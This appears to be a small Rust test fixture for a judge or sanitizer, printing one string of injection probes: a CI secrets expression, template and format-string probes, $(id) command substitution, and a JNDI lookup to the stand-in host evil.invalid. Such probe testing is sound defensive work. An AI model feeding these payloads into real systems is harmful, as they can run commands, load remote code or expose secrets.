// tries: template and shell syntax
// verdict: WA
fn main() { println!("${{{{ secrets.TOKEN }}}} {{{{ 7*7 }}}} $(id) `id` %n%s ${{jndi:ldap://evil.invalid/a}} {{}} {{0}}"); }
